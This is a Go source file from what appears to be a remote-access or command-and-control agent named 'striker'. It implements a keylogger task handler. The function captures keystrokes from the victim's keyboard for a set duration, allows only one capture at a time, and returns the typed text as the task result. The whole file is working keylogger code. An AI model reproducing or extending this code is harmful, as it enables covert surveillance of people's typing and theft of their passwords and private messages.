package executor

import (
	"context"
	"errors"
	"strings"
	"time"

	serrors "striker/internal/errors"
	"striker/internal/session"
	"striker/internal/task"
)

// keymon captures keystrokes for the requested number of seconds.  Only
// one capture runs at a time; a second request fails at once.  The
// handler completes the task itself and returns an empty result to the
// executor.
func (e *Executor) keymon(ctx context.Context, sess *session.Session, t *task.Task) (string, bool) {
	secs, ok := t.Params().Int("duration")
	if !ok || secs < 1 {
		return "Invalid duration!", false
	}
	if !e.keymonActive.CompareAndSwap(false, true) {
		return "Keylogger already running!", false
	}
	defer e.keymonActive.Store(false)

	ctx, cancel := context.WithTimeout(ctx, time.Duration(secs)*time.Second)
	defer cancel()

	kb := e.caps.Keyboard
	keys, err := kb.Start(ctx, sess.CaptureDevice(), time.Duration(secs)*time.Second)
	if err != nil {
		if errors.Is(err, serrors.ErrCaptureBusy) {
			return "Keylogger already running!", false
		}
		return unsupportedOr(err, "Error opening keyboard: "), false
	}

	var sb strings.Builder
	count := 0
loop:
	for {
		select {
		case ks, ok := <-keys:
			if !ok {
				break loop
			}
			if count < e.maxKeystrokes {
				sb.WriteString(ks.Text)
				count++
			}
		case <-ctx.Done():
			break loop
		}
	}
	kb.Stop()

	e.logger.Verbose("task %s: captured %d keystrokes", t.ID(), count)
	if count == 0 {
		t.Complete("No keys logged!", false)
	} else {
		t.Complete(sb.String(), true)
	}
	return "", false
}
